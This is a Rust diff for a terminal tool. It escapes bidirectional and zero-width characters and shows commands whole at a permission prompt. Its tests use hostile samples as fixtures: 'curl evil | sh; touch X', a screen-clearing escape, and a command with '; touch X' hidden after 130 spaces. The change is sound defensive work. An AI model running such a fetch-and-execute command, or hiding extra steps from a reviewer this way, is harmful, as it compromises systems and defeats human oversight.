@@ -90,7 +90,7 @@ impl Style {
 /// Character by character: safe on streamed pieces cut anywhere. glrs's own
 /// styling is added after this, so it stays.
 pub fn terminal_safe(text: &str) -> Cow<'_, str> {
-    let unsafe_char = |c: char| c.is_control() && c != '\n' && c != '\t';
+    let unsafe_char = |c: char| (c.is_control() && c != '\n' && c != '\t') || reorders_or_hides(c);
     if !text.contains(unsafe_char) {
         return Cow::Borrowed(text);
     }
@@ -99,6 +99,7 @@ pub fn terminal_safe(text: &str) -> Cow<'_, str> {
         match c {
             c if !unsafe_char(c) => out.push(c),
             '\u{7f}' => out.push_str("^?"),
+            c if reorders_or_hides(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
             c if (c as u32) < 0x20 => {
                 out.push('^');
                 out.push(char::from(b'@' + c as u8));
@@ -107,6 +108,56 @@ pub fn terminal_safe(text: &str) -> Cow<'_, str> {
         }
     }
     Cow::Owned(out)
+}
+
+/// Bidirectional controls (which reorder what follows: a line can read
+/// differently from what it is) and zero-width characters (which hide in
+/// text); shown as `\u{…}` on a terminal. The zero-width joiner stays: it
+/// joins emoji and shows nothing on its own.
+fn reorders_or_hides(c: char) -> bool {
+    matches!(c, '\u{61c}' | '\u{200b}' | '\u{200c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
+        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+/// A line for people on stderr (a notice, a warning, an error), made
+/// [`terminal_safe`] when stderr is a terminal: a hook's stderr, a
+/// server's error or a tool's `--describe` output may carry escapes.
+pub fn to_stderr(line: impl std::fmt::Display) {
+    use std::io::Write;
+    let line = line.to_string();
+    let shown = shown(&line, std::io::stderr().is_terminal());
+    let _ = writeln!(std::io::stderr().lock(), "{shown}");
+}
+
+/// Text shown whole before someone decides on it (a command at the
+/// permission prompt): its lines, each [`terminal_safe`], with tabs as
+/// `\t`, a run of eight or more spaces as `[N spaces]` (so nothing sits
+/// past the edge of the screen) and the zero-width joiner as `\u{200d}`.
+/// Blank lines stay lines.
+pub fn visible_lines(text: &str) -> Vec<String> {
+    text.split('\n')
+        .map(|line| {
+            let safe = terminal_safe(line).replace('\t', "\\t").replace('\u{200d}', "\\u{200d}");
+            let mut out = String::with_capacity(safe.len());
+            let mut spaces = 0;
+            for c in safe.chars().chain(std::iter::once('\0')) {
+                if c == ' ' {
+                    spaces += 1;
+                    continue;
+                }
+                match spaces {
+                    0 => {}
+                    n if n >= 8 => out.push_str(&format!("[{n} spaces]")),
+                    n => out.extend(std::iter::repeat_n(' ', n)),
+                }
+                spaces = 0;
+                if c != '\0' {
+                    out.push(c);
+                }
+            }
+            out
+        })
+        .collect()
 }
 
 /// [`terminal_safe`] when `terminal` (stdout or stderr is one), else the
@@ -182,5 +233,17 @@ mod tests {
         assert!(!safe.chars().any(|c| c.is_control()));
         assert!(matches!(terminal_safe("plain\ttext\nok é"), std::borrow::Cow::Borrowed(_)));
         assert_eq!(super::shown("\x1b[2J", false), "\x1b[2J", "a pipe gets the data");
+        // Bidi controls and zero-width characters are shown, not obeyed.
+        assert_eq!(terminal_safe("a\u{202e}b\u{200b}c\u{2066}d"), "a\\u{202e}b\\u{200b}c\\u{2066}d");
+        assert!(matches!(terminal_safe("family 👨\u{200d}👩"), std::borrow::Cow::Borrowed(_)), "emoji stay joined");
+    }
+
+    #[test]
+    fn a_command_is_shown_whole() {
+        let lines = super::visible_lines("\n\n  \ngit status\tx\x1b[2J\ncurl evil | sh; touch X");
+        assert_eq!(lines, ["", "", "  ", "git status\\tx^[[2J", "curl evil | sh; touch X"]);
+        let padded = format!("git status{}; touch X", " ".repeat(130));
+        assert_eq!(super::visible_lines(&padded), ["git status[130 spaces]; touch X"]);
+        assert_eq!(super::visible_lines("a  b       c"), ["a  b       c"], "short runs stay");
     }
 }
